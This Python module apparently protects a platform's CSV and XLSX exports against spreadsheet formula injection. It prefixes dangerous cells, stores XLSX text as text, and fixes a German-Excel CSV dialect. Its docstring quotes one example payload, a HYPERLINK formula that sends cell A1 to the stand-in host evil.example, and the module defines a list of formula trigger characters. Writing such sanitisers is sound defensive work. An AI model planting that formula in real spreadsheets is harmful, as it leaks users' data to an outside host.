"""Cells for the CSV and XLSX files the platform writes, safe from formula injection.

Spreadsheet programs read a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or with a
tab or carriage return before one of them) as a formula, so a course title such as
``=HYPERLINK("https://evil.example/?"&A1;"Details")`` would become a live formula in the
HR person's spreadsheet. Every CSV and XLSX export goes through this module:

- CSV: such a text cell is written with a leading apostrophe, which spreadsheets show as
  text. A text that already begins with an apostrophe gets one more, so ``csv_text_restore``
  (used by the importers) gives back exactly the original text.
- XLSX: text cells are always stored as text (never as a formula or an error value); a
  text that would be read as a formula additionally carries Excel's quote prefix, so
  editing the cell keeps it text. The stored value is the original text.

Numbers, dates and empty cells cannot hold a formula. In XLSX they are stored as
numbers and dates. CSV files are written for Excel with German regional settings, the
program most people in an authority open them with: semicolon-separated, decimal comma
(``2,5``), dates as ISO 8601 (which Excel reads as dates), UTF-8 with a byte-order mark,
CRLF line ends. ``csv_writer`` / ``csv_bytes`` are the one place that dialect is set.
"""

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal

from openpyxl.cell import Cell

#: Field separator of the CSV files (Excel with German regional settings expects it).
CSV_DELIMITER = ";"

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True if a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def _decimal_comma(value: float | Decimal) -> str:
    text = repr(value) if isinstance(value, float) else str(value)
    if "e" in text.lower():  # no scientific notation: Excel would read it as text
        text = format(Decimal(text), "f")
    return text.replace(".", ",")


def csv_cell(value):
    """The value to write into a CSV cell: dangerous text is prefixed with an apostrophe,
    decimal numbers get a decimal comma, dates are ISO 8601."""
    if isinstance(value, str):
        if is_formula_like(value) or value.startswith(_QUOTE):
            return _QUOTE + value
        return value
    if isinstance(value, bool):
        return value
    if isinstance(value, float | Decimal):
        return _decimal_comma(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    return value


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


def csv_writer(out):
    """A ``csv.writer`` in the platform's CSV dialect (write rows through ``csv_row``)."""
    return csv.writer(out, delimiter=CSV_DELIMITER, lineterminator="\r\n")


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file: every row made safe, UTF-8 with a byte-order mark (for Excel)."""
    out = io.StringIO()
    writer = csv_writer(out)
    for row in rows:
        writer.writerow(csv_row(row))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def csv_text_restore(text: str) -> str:
    """The original text of a cell written by ``csv_cell`` (the inverse, for importers)."""
    if text.startswith(_QUOTE) and (is_formula_like(text[1:]) or text[1:].startswith(_QUOTE)):
        return text[1:]
    return text


def xlsx_append(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet with every text cell stored as text."""
    row = []
    for value in values:
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            # openpyxl types "=…" as a formula and "#N/A" as an error; a label is neither.
            cell.data_type = "s"
            if is_formula_like(value):
                cell.quotePrefix = True
        row.append(cell)
    sheet.append(row)
